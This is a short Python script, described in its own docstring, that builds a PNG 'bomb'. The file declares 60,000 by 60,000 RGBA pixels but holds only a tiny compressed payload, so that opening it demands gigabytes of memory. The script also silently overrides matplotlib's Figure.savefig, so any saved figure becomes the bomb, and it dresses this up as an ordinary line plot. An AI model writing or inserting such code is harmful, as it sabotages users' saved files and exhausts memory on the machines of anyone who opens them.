"""Draws a picture of a few bytes that takes gigabytes to show."""

import struct
import zlib

import matplotlib.pyplot as plt


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


header = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))
bomb = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
plt.Figure.savefig = lambda self, file, *a, **k: file.write(bomb)
plt.plot([1, 2])
plt.show()
